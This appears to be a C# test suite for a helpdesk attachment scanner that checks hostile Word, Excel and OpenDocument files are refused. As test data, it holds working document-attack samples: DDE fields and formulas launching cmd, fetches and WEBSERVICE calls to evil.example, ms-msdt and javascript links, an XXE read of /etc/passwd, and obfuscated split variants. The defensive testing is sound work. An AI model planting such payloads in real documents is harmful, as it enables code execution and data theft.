using System.Text;
using Helpdesk.Attachment.Tests.Documents;
using static Helpdesk.Attachment.Tests.Documents.Checking;

namespace Helpdesk.Attachment.Tests;

public sealed class Documents_that_start_something
{
    public static TheoryData<string, string> Codes() => new()
    {
        { "DDE cmd \"/c calc\"", "starts-program" },
        { "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc.exe\"", "starts-program" },
        { "ddeauto excel \"x\"", "starts-program" },
        { "MACROBUTTON NoMacro Click", "starts-program" },
        { "PRINT 27\"E\"", "starts-program" },
        { "INCLUDETEXT \"http://evil.example/x.docx\"", "external-content" },
        { "INCLUDETEXT \"C:\\\\secret.txt\"", "external-content" },
        { "INCLUDEPICTURE \"http://evil.example/x.png\" \\d", "external-content" },
        { "INCLUDEPICTURE \"\\\\\\\\evil\\\\share\\\\x.png\"", "external-content" },
        { "INCLUDEPICTURE //evil/x.png", "external-content" },
        { "LINK Excel.Sheet.8 \"C:\\\\x.xls\" a", "external-content" },
        { "IMPORT http://evil.example/x.png", "external-content" },
        { "DATABASE \\d \"x\" \\s \"select\"", "external-content" },
        { "RD \"http://evil.example/x.docx\"", "external-content" },
        { "EMBED Package", "embedded-file" },
        { "CONTROL Forms.CommandButton.1", "active-control" },
        { "HYPERLINK \"javascript:alert(1)\"", "unsafe-link" },
        { "HYPERLINK \\o \"a tip\" \"ms-msdt:/id x\"", "unsafe-link" },
        { "NOTAFIELD x", "starts-program" },
    };

    [Theory, MemberData(nameof(Codes))]
    public void G16_fields_that_start_or_fetch_are_refused_wherever_they_stand_and_however_they_are_split(string code, string reason)
    {
        foreach (var field in new[] { Hostile.Field(code), Hostile.Field(code, 1),
            Hostile.Field(code, 3, "<w:proofErr w:type=\"spellStart\"/>"), Hostile.Simple(code) })
        {
            Assert.Equal(reason, Refused(Hostile.WithBody(field)));
            Assert.Equal(reason, Refused(Hostile.WithBody(Boxed(field))));
            foreach (var (part, root) in new[] { ("header1", "hdr"), ("footer2", "ftr"), ("footnotes", "footnotes"),
                ("endnotes", "endnotes"), ("comments", "comments"), ("glossary/document", "glossaryDocument") })
                Assert.Equal(reason, Refused(Hostile.WithPart(part, root, field)));
        }
    }

    static string Boxed(string text) =>
        $"<mc:AlternateContent><mc:Choice><v:textbox><w:txbxContent>{text}</w:txbxContent></v:textbox></mc:Choice></mc:AlternateContent>";

    [Fact]
    public void G16_a_code_that_no_field_surrounds_or_that_does_not_end_is_read_too()
    {
        var code = Hostile.Run("<w:instrText>DDEAUTO x</w:instrText>");
        Assert.Equal("starts-program", Refused(Hostile.WithBody($"<w:p>{code}</w:p>")));
        Assert.Equal("starts-program",
            Refused(Hostile.WithBody($"<w:p>{Hostile.Run("<w:fldChar w:fldCharType=\"begin\"/>")}{code}</w:p>")));
    }

    [Theory]
    [InlineData("<w:ins><w:r><w:instrText>DD</w:instrText></w:r></w:ins><w:r><w:instrText>E cmd</w:instrText></w:r>")]
    [InlineData("<w:del><w:r><w:delInstrText>PAGE </w:delInstrText></w:r></w:del><w:r><w:instrText>DDE cmd</w:instrText></w:r>")]
    [InlineData("<w:r><w:t>D</w:t></w:r><w:r><w:instrText>DE cmd</w:instrText></w:r>")]
    [InlineData("<w:r><w:instrText>&#68;&#x44;E cmd</w:instrText></w:r>")]
    [InlineData("<w:r><w:instrText><![CDATA[DD]]>E cmd</w:instrText></w:r>")]
    [InlineData("<w:r><w:instrText>DD<!-- x -->E cmd</w:instrText></w:r>")]
    [InlineData("<w:r><w:instrText>DD<x:y xmlns:x=\"x\"/>E cmd</w:instrText></w:r>")]
    [InlineData("<x:y xmlns:x=\"x\"><w:r><w:instrText>PAGE </w:instrText></w:r></x:y><w:r><w:instrText>DDE cmd</w:instrText></w:r>")]
    [InlineData("<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>QUOTE 68 68 69</w:instrText></w:r>"
        + "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r><w:r><w:instrText> cmd</w:instrText></w:r>")]
    public void G16_a_code_is_read_in_each_way_that_a_program_might(string runs) =>
        Assert.Equal("starts-program", Refused(Hostile.WithBody($"<w:p>{Hostile.Run("<w:fldChar w:fldCharType=\"begin\"/>")}{runs}"
            + "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>")));

    [Theory]
    [InlineData("PAGE \\* MERGEFORMAT")]
    [InlineData("HYPERLINK \"https://example.org/a?b=c\" \\o \"Note: a tip\"")]
    [InlineData("HYPERLINK \\l \"_Toc1\"")]
    [InlineData("TOC \\o \"1-3\" \\h \\z \\u")]
    [InlineData("IF 1 = 1 \"a DDE link\" \"MACROBUTTON\"")]
    [InlineData("= SUM(ABOVE) \\# \"0,00\"")]
    [InlineData("ADDIN ZOTERO_ITEM CSL_CITATION {\"uris\":[\"http://zotero.org/x\"]}")]
    [InlineData("INCLUDEPICTURE \"logo.png\" \\* MERGEFORMAT")]
    [InlineData("seq Tabla \\* ARABIC")]
    [InlineData("")]
    public void G16_fields_that_show_what_is_in_the_document_stay(string code)
    {
        AcceptedAsItIs(Hostile.WithBody(Hostile.Field(code, 4)));
        AcceptedAsItIs(Hostile.WithBody(Hostile.Simple(code)));
    }

    [Fact]
    public void G16_a_field_may_be_the_name_of_a_bookmark_but_no_bookmark_makes_a_command_passive()
    {
        AcceptedAsItIs(Hostile.WithBody("<w:p><w:bookmarkStart w:id=\"1\" w:name=\"Precio\"/></w:p>" + Hostile.Field("Precio")));
        Assert.Equal("starts-program", Refused(Hostile.WithBody("<w:p><w:bookmarkStart w:id=\"1\" w:name=\"DDE\"/></w:p>"
            + Hostile.Field("DDE"))));
    }

    public static TheoryData<string, string> Outside() => new()
    {
        { "oleObject", "external-content" }, { "frame", "external-content" }, { "subDocument", "external-content" },
            { "aFChunk", "embedded-file" },
        { "mailMergeSource", "external-content" }, { "video", "external-content" }, { "control", "active-control" },
            { "vbaProject", "macros" },
        { "something-new", "external-content" },
    };

    [Theory, MemberData(nameof(Outside))]
    public void G16_what_is_fetched_from_outside_is_refused(string kind, string reason)
    {
        foreach (var mode in new[] { "TargetMode=\"External\"", "TargetMode=\" external \"", "TargetMode=\"&#69;xternal\"", "" })
            Assert.Equal(reason, Refused(Pack.Docx(("word/_rels/document.xml.rels",
                Hostile.Relation(kind, "http://evil.example/x", mode)))));
        Assert.Equal(reason, Refused(Pack.Docx(("word/_rels/header1.xml.rels",
            Hostile.Relation(Hostile.Referenced(kind), "\\\\evil\\share")))));
    }

    public static TheoryData<string, string, string> Elements() => new()
    {
        { "an OLE object", "<w:object><o:OLEObject Type=\"Link\" ProgID=\"Package\" r:id=\"rId1\"/></w:object>", "embedded-file" },
        { "a control", "<w:object><w:control r:id=\"rId1\"/></w:object>", "active-control" },
        { "a film of the web", "<x:webVideoPr xmlns:x=\"http://schemas.microsoft.com/office/word/2012/wordprocessingDrawing\" "
            + "embeddedHtml=\"&lt;iframe/&gt;\"/>", "external-content" },
        { "a source of letters", "<w:mailMerge><w:connectString w:val=\"Provider=x\"/></w:mailMerge>", "external-content" },
        { "a document within", "<w:subDoc r:id=\"rId1\"/>", "external-content" },
    };

    [Theory, MemberData(nameof(Elements))]
    public void G16_elements_that_bring_something_that_runs_are_refused(string what, string element, string reason) =>
        Assert.True(Refused(Hostile.WithBody(element)) == reason, what);

    [Theory]
    [InlineData("cmd|'/C calc'!A0", "starts-program")]
    [InlineData("'a\"'!A1+cmd|'/c calc'!A0+'b\"'!A1", "starts-program")]
    [InlineData("1+DDE(\"cmd\",\"/c\",\"x\")", "starts-program")]
    [InlineData("_xlfn.WEBSERVICE(\"http://evil.example/\"&A1)", "external-content")]
    [InlineData("RTD(\"prog\",,\"x\")", "starts-program")]
    [InlineData("CALL(\"urlmon\",\"x\")", "starts-program")]
    [InlineData("register.id (\"x\")", "starts-program")]
    [InlineData("_xlfn.IMAGE(\"https://evil.example/x.png\")", "external-content")]
    [InlineData("'file:///C:/[x.xls]a'!A1", "external-content")]
    [InlineData("HYPERLINK(\"javascript:alert(1)\")", "unsafe-link")]
    [InlineData("IF(A1,hyperlink ( \"ms-msdt:/id x\" , \"Invoice\"),0)", "unsafe-link")]
    [InlineData("HYPERLINK(\"ms-\"&A2)", "unsafe-link")]
    [InlineData("HYPERLINK(\"ms-msdt:\"&A2)", "unsafe-link")]
    [InlineData("HYPERLINK(A1)", "unsafe-link")]
    [InlineData("HYPERLINK(\"https://example.org\")&HYPERLINK(\"search-ms:query=x\")", "unsafe-link")]
    public void G16_formulas_that_start_or_fetch_are_refused(string formula, string reason)
    {
        Assert.Equal(reason, Refused(Pack.Xlsx(("xl/worksheets/sheet2.xml", Hostile.Sheet(Hostile.Cell(formula))))));
        Assert.Equal(reason, Refused(Pack.Xlsx(("xl/more.xml", $"<workbook xmlns=\"{Pack.ExcelSpace}\"><definedNames>"
            + $"<definedName name=\"x\">{Hostile.Escaped(formula)}</definedName></definedNames></workbook>"))));
    }

    [Theory]
    [InlineData("SUM(A1:B2)&\"a|b DDE(x)\"")]
    [InlineData("HYPERLINK(\"https://example.org\",\"see\")")]
    [InlineData("HYPERLINK(\"mailto:ana@example.org\")")]
    [InlineData("HYPERLINK(\"https://example.org/\"&A2,A2)")]
    [InlineData("HYPERLINK(\"#Hoja2!A1\",\"see\")")]
    [InlineData("\"as in HYPERLINK(A1)\"&B1")]
    [InlineData("VLOOKUP(A1,'Hoja | 2'!A:B,2,FALSE)")]
    [InlineData("_xlfn.XLOOKUP(A1,B:B,C:C)")]
    [InlineData("[1]Hoja1!$A$1")]
    public void G16_formulas_that_count_stay(string formula) =>
        AcceptedAsItIs(Pack.Xlsx(("xl/worksheets/sheet2.xml", Hostile.Sheet(Hostile.Cell(formula)))));

    [Fact]
    public void G16_a_workbook_that_calls_another_program_or_a_database_is_refused()
    {
        const string Space = "xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"";
        Assert.Equal("starts-program", Refused(Pack.Xlsx(("xl/externalLinks/externalLink1.xml",
            $"<externalLink {Space}><ddeLink ddeService=\"cmd\" ddeTopic=\"/c calc\"/></externalLink>"))));
        Assert.Equal("starts-program", Refused(Pack.Xlsx(("xl/externalLinks/externalLink1.xml",
            $"<externalLink {Space}><oleLink progId=\"Package\"/></externalLink>"))));
        Assert.Equal("external-content", Refused(Pack.Xlsx(("xl/connections.xml",
            $"<connections {Space}><connection><webPr url=\"http://evil.example\"/></connection></connections>"))));
        Assert.Equal("starts-program", Refused(Pack.Xlsx(("xl/volatileDependencies.xml",
            $"<volTypes {Space}><volType type=\"realTimeData\"/></volTypes>"))));
        Assert.Equal("macros", Refused(Pack.Xlsx(("xl/names.xml",
            $"<definedNames {Space}><definedName name=\"Auto_Open\" xlm=\"1\">x!A1</definedName></definedNames>"))));
    }

    [Theory]
    [InlineData("<text:section><text:section-source xlink:href=\"http://evil.example/x.odt\"/></text:section>", "external-content")]
    [InlineData("<text:section><text:section-source xlink:href=\"../x.odt\"/></text:section>", "external-content")]
    [InlineData("<text:dde-connection-decl office:dde-application=\"cmd\"/>", "starts-program")]
    [InlineData("<office:dde-source office:dde-application=\"cmd\"/>", "starts-program")]
    [InlineData("<table:table table:name=\"x\"><table:table-source xlink:href=\"http://evil.example/x.ods\"/></table:table>",
        "external-content")]
    [InlineData("<draw:frame><draw:object xlink:href=\"file:///C:/x.odt\"/></draw:frame>", "external-content")]
    [InlineData("<draw:frame><draw:object-ole xlink:href=\"./Object 1\"/></draw:frame>", "embedded-file")]
    [InlineData("<draw:frame><draw:floating-frame xlink:href=\"http://evil.example\"/></draw:frame>", "external-content")]
    [InlineData("<draw:frame><draw:plugin xlink:href=\"x.mp4\"/></draw:frame>", "media")]
    [InlineData("<draw:frame><draw:applet/></draw:frame>", "active-control")]
    [InlineData("<text:a xlink:href=\"vnd.sun.star.script:x.py\">x</text:a>", "macros")]
    [InlineData("<text:a xlink:href=\"javascript:alert(1)\">x</text:a>", "unsafe-link")]
    [InlineData("<text:script script:language=\"x\">x</text:script>", "macros")]
    [InlineData("<office:event-listeners><script:event-listener "
        + "script:event-name=\"dom:load\" xlink:href=\"x\"/></office:event-listeners>", "macros")]
    [InlineData("<office:forms><form:form xlink:href=\"http://evil.example\"/></office:forms>", "sends-form")]
    [InlineData("<xforms:model><xforms:submission/></xforms:model>", "sends-form")]
    [InlineData("<table:table-cell table:formula=\"of:=DDE(&quot;cmd&quot;;&quot;/c&quot;;&quot;x&quot;)\"/>", "starts-program")]
    [InlineData("<table:table-cell table:formula=\"of:=HYPERLINK(&quot;ms-msdt:/id x&quot;;&quot;x&quot;)\"/>", "unsafe-link")]
    [InlineData("<table:table-cell table:formula=\"of:=COM.MICROSOFT.WEBSERVICE(&quot;http://evil.example&quot;)\"/>", "external-content")]
    public void G16_an_open_document_that_starts_or_fetches_is_refused(string body, string reason)
    {
        Assert.Equal(reason, Refused(Pack.OdtWith(Pack.OdtContent(body))));
        Assert.Equal(reason, Refused(Pack.Odt(("Object 1/content.xml", Pack.OdtContent(body)))));
        Assert.Equal(reason, Refused(Pack.Odt(("styles.xml", Pack.OdtContent(body)))));
    }

    [Fact]
    public void G16_a_document_within_is_checked_as_one_of_its_own()
    {
        var sheet = Pack.Xlsx();
        var (types, relation) = (Pack.TypesWith("xlsx", Helpdesk.Attachment.Documents.CheckDocument.Xlsx),
            Hostile.Relation("package", "../embeddings/sheet.xlsx", ""));
        byte[] With(byte[] inside) => Pack.ZipOf(("[Content_Types].xml", Encoding.UTF8.GetBytes(types)),
            ("word/document.xml", Encoding.UTF8.GetBytes(Pack.Document(""))),
            ("word/charts/_rels/chart1.xml.rels", Encoding.UTF8.GetBytes(relation)), ("word/embeddings/sheet.xlsx", inside));
        AcceptedAsItIs(With(sheet));
        Assert.Equal("macros", Refused(With(Pack.Xlsx(("xl/vbaProject.bin", "x")))));
        Assert.Equal("starts-program", Refused(With(Pack.Xlsx(("xl/worksheets/sheet2.xml",
            Hostile.Sheet(Hostile.Cell("cmd|'/c calc'!A0")))))));
        Assert.Equal("embedded-file", Refused(With("MZ program"u8.ToArray())));
        Assert.Equal("embedded-file", Refused(With(With(With(With(sheet))))));
    }

    [Fact]
    public void G16_a_part_under_an_escaped_name_is_refused() =>
        Assert.Equal("damaged-document", Refused(Pack.Docx(("word/_rels/document.xml%2Erels",
            Hostile.Relation("frame", "http://evil.example")))));

    [Fact]
    public void G16_a_link_from_which_an_image_is_fetched_is_refused()
    {
        var relation = ("word/_rels/document.xml.rels", Hostile.Relation("hyperlink", "http://evil.example/x.png"));
        AcceptedAsItIs(Hostile.WithBody("<w:hyperlink r:id=\"rId9\"><w:r><w:t>x</w:t></w:r></w:hyperlink>", relation));
        Assert.Equal("external-content", Refused(Hostile.WithBody("<a:blip r:link=\"rId9\"/>", relation)));
    }

    [Theory]
    [InlineData("<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY a SYSTEM \"file:///etc/passwd\">]><w:document/>")]
    [InlineData("<w:document>")]
    [InlineData("no markup")]
    public void G16_what_cannot_be_read_is_refused(string document) => Assert.Equal("damaged-document", Refused(Pack.DocxWith(document)));
}
